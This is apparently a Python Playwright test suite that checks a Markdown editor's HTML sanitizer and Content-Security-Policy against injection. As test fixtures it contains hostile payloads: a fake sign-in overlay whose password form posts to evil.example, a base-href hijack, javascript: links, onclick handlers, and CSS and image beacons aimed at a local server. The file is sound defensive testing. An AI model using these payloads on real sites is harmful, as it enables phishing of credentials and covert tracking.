"""Stored content can neither restyle, overlay nor call out from the editor's Markdown preview.

The preview's sanitizer keeps inert Markdown HTML only (no styles, forms, frames, foreign
content, handlers or foreign images), and the page's Content-Security-Policy refuses inline
styles and foreign images in case anything gets past it. A beacon server started here, on
plain HTTP and on HTTPS (the contexts accept its self-signed certificate, so a policy that
allowed any https image would let those requests through), records every request it gets.
"""

from __future__ import annotations

import shutil
import ssl
import subprocess
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from aiohttp import web
from playwright.async_api import Browser, Page, expect

from tests.browser.support import Person, Rest, Server, open_editor
from tests.browser.test_editor import new_item
from tests.support.servers import free_port

# A 1x1 transparent GIF: what every beacon URL answers.
PIXEL = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c000000000100010000020144003b"
)
SETTLE_MS = 1500


@dataclass
class Beacon:
    """A tiny web server on loopback that records the path of every request it gets."""

    http: str
    https: str
    hits: list[str] = field(default_factory=list)

    def urls(self, name: str) -> tuple[str, str]:
        return f"{self.http}/{name}", f"{self.https}/{name}"


def self_signed_certificate(directory: Path) -> tuple[Path, Path]:
    openssl = shutil.which("openssl")
    if openssl is None:
        pytest.fail("openssl is needed to make the beacon's certificate", pytrace=False)
    cert, key = directory / "beacon.crt", directory / "beacon.key"
    subprocess.run(
        [openssl, "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
         "-nodes", "-days", "1", "-subj", "/CN=127.0.0.1",
         "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", str(key), "-out", str(cert)],
        check=True,
        capture_output=True,
    )  # fmt: skip
    return cert, key


@pytest.fixture
async def beacon(tmp_path: Path) -> AsyncIterator[Beacon]:
    cert, key = self_signed_certificate(tmp_path)
    tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    tls.load_cert_chain(cert, key)
    http_port, https_port = free_port(), free_port()
    served = Beacon(f"http://127.0.0.1:{http_port}", f"https://127.0.0.1:{https_port}")

    async def record(request: web.Request) -> web.Response:
        served.hits.append(request.path)
        return web.Response(body=PIXEL, content_type="image/gif")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", record)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", http_port).start()
    await web.TCPSite(runner, "127.0.0.1", https_port, ssl_context=tls).start()
    try:
        yield served
    finally:
        await runner.cleanup()


async def editor_on(browser: Browser, server: Server, admin: Rest, title: str, body: str) -> Person:
    item_id = await new_item(admin, title, body)
    return await open_editor(
        browser, server, "editor", server.logins["editor"], item_id, ignore_https_errors=True
    )


async def editor_is_uncovered(page: Page) -> bool:
    """Whether the topmost element at the centre of the body editor belongs to the editor."""
    covered: bool = await page.evaluate(
        """() => {
            const editor = document.querySelector('.cm-editor')
            const box = editor.getBoundingClientRect()
            const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)
            return editor.contains(top)
        }"""
    )
    return covered


OVERLAY = "\n\n".join(
    (
        "## Overlay check",
        '<div style="position:fixed;inset:0;background:white;z-index:9999">'
        'Session expired, sign in again<form action="https://evil.example/">'
        '<input name="password"><button>Sign in</button></form></div>',
        "<style>body{display:none}</style>",
        '<iframe src="/"></iframe><object data="/"></object><embed src="/">'
        '<link rel="stylesheet" href="/static/dist/app.css">'
        '<meta http-equiv="refresh" content="0;url=/#/items"><base href="https://evil.example/">',
        '<svg><rect width="100" height="100"></rect></svg><math><mi>x</mi></math>',
        "<textarea>typed</textarea><select><option>chosen</option></select>"
        '<p class="drawer" id="history-drawer" onclick="window.pwned = 1">classy</p>',
        "- [x] done task\n- [ ] open task",
        "[bad](javascript:window.pwned=2) [data](data:text/html,hi) [fine](https://example.com/)",
    )
)

FORBIDDEN = (
    "form, input, button, textarea, select, option, style, iframe, object, embed, link, meta,"
    " base, svg, math, [style], [class], [id], [onclick]"
)


async def test_stored_content_cannot_overlay_the_editor_or_bring_forms_and_styles(
    server: Server, browser: Browser, admin: Rest
) -> None:
    ed = await editor_on(browser, server, admin, "Phishing overlay", OVERLAY)
    page, preview = ed.page, ed.page.locator(".preview")
    await expect(preview.locator("h2")).to_have_text("Overlay check")
    await expect(preview).to_contain_text("Session expired, sign in again")
    assert await preview.locator(FORBIDDEN).count() == 0
    # Task lists still read as such, without form controls.
    await expect(preview.locator("li").nth(0)).to_have_text("☑ done task")
    await expect(preview.locator("li").nth(1)).to_have_text("☐ open task")
    assert await preview.get_by_text("bad", exact=True).get_attribute("href") is None
    assert await preview.get_by_text("data", exact=True).get_attribute("href") is None
    fine = preview.get_by_text("fine", exact=True)
    assert await fine.get_attribute("href") == "https://example.com/"
    assert await fine.get_attribute("rel") == "noopener noreferrer"

    await expect(page.locator("body")).to_be_visible()
    assert (await page.evaluate("() => document.baseURI")).startswith(server.base + "/")
    assert await editor_is_uncovered(page)
    await ed.type_at_end("Typed past the overlay.")
    await ed.wait_for_body("Typed past the overlay.")
    await preview.get_by_text("classy").click()
    assert await page.evaluate("() => window.pwned") is None
    await ed.saved()
    await ed.close()
    # The sanitizer parses content inertly; Chromium still reports the styles in it as
    # refused by the page's policy. Those reports are the only console errors allowed.
    assert [e for e in ed.errors if "Content Security Policy" not in e] == []


def beacon_body(beacon: Beacon) -> str:
    parts = ["## Beacon check"]
    for url in beacon.urls("beacon"):
        parts += [
            f"<style>@import url({url}/import.css); p {{ background: url({url}/p.png) }}</style>",
            f'<div style="background:url({url}/div.png)">styled</div>',
            f'<img alt="img" src="{url}/pixel.png"> <img alt="set" srcset="{url}/set.png 1x">',
            f"![markdown]({url}/markdown.png)",
            f'<table background="{url}/table.png"><tr><td>cell</td></tr></table>',
            f'<video poster="{url}/poster.png"></video><audio src="{url}/audio.mp3"></audio>',
            f'<link rel="stylesheet" href="{url}/link.css"><link rel="prefetch" href="{url}/pre">',
            f'<svg><image href="{url}/svg.png"></image></svg><input type="image" src="{url}/i">',
            f'<object data="{url}/object"></object><iframe src="{url}/frame"></iframe>',
        ]
    parts.append('Our own: <img alt="own" src="/healthz">')
    # Each part a block of its own: Markdown inside an HTML block is not Markdown.
    return "\n\n".join(parts)


async def test_stored_content_cannot_make_the_page_request_any_foreign_url(
    server: Server, browser: Browser, admin: Rest, beacon: Beacon
) -> None:
    ed = await editor_on(browser, server, admin, "CSS beacon", beacon_body(beacon))
    page, preview = ed.page, ed.page.locator(".preview")
    await expect(preview.locator("h2")).to_have_text("Beacon check")
    own = preview.get_by_alt_text("own", exact=True)
    assert await own.get_attribute("src") == "/healthz"
    await page.wait_for_function("() => document.querySelector('.preview img[alt=own]').complete")
    await page.wait_for_timeout(SETTLE_MS)
    assert beacon.hits == []
    for alt in ("img", "markdown"):
        assert await preview.get_by_alt_text(alt, exact=True).first.get_attribute("src") is None
    assert await preview.locator("[srcset], [background], [poster], video, audio").count() == 0

    # The beacon answers this browser (its certificate is accepted): silence above is real.
    control = await ed.context.new_page()
    for url in beacon.urls("control"):
        await control.goto(url)
    assert beacon.hits.count("/control") == 2
    await ed.close()


async def test_the_page_policy_refuses_inline_styles_and_foreign_images_past_the_sanitizer(
    server: Server, browser: Browser, admin: Rest, beacon: Beacon
) -> None:
    ed = await editor_on(browser, server, admin, "Policy", "## Policy check\n")
    page = ed.page
    await expect(page.locator(".preview h2")).to_have_text("Policy check")
    await page.evaluate(
        """([image]) => {
            const host = document.createElement('div')
            host.innerHTML = '<div id="overlay" style="position:fixed;inset:0;z-index:9999">'
                + `Sign in</div><img id="foreign" src="${image}">`
            document.body.append(host)
            const style = document.createElement('style')
            style.textContent = 'body { display: none }'
            document.head.append(style)
        }""",
        [beacon.urls("injected.png")[1]],
    )
    await page.wait_for_timeout(SETTLE_MS)
    await expect(page.locator("#overlay")).to_have_css("position", "static")
    await expect(page.locator("body")).to_be_visible()
    assert await editor_is_uncovered(page)
    assert beacon.hits == []
    refused = {v["directive"] for v in await ed.csp_violations()}
    assert {"style-src-attr", "style-src-elem", "img-src"} <= refused
    await ed.close()


async def test_the_editor_keeps_its_own_styles_under_the_policy_without_violations(
    server: Server, browser: Browser, admin: Rest
) -> None:
    item_id = await new_item(admin, "Styled", "Two carets.\n")
    ada = await open_editor(browser, server, "admin", server.logins["admin"], item_id)
    ed = await open_editor(browser, server, "editor", server.logins["editor"], item_id)
    await ed.type_at_end(" Editor was here.")
    await ada.type_at_end(" Admin too.")
    caret = ada.page.locator(".cm-ySelectionCaret", has_text="Editor")
    await expect(caret).to_be_visible()
    editor_colour = await ed.page.evaluate(
        "() => window.rcms.session.awareness.getLocalState().user.color"
    )
    await expect(caret).to_have_css("background-color", _rgb(editor_colour))
    dot = ada.page.locator(".presence .person", has_text="Editor").locator(".dot")
    await expect(dot).to_have_css("background-color", _rgb(editor_colour))
    # CodeMirror's own theme (a <style> it injects, allowed by the page's nonce) applies.
    await expect(ada.page.locator(".cm-editor")).to_have_css("display", "flex")
    await ada.saved()
    await ed.saved()
    for person in (ada, ed):
        assert await person.csp_violations() == [], person.name
        await person.close()
        assert person.errors == [], (person.name, person.errors)


def _rgb(hex_colour: str) -> str:
    value = hex_colour.lstrip("#")
    red, green, blue = (int(value[i : i + 2], 16) for i in (0, 2, 4))
    return f"rgb({red}, {green}, {blue})"
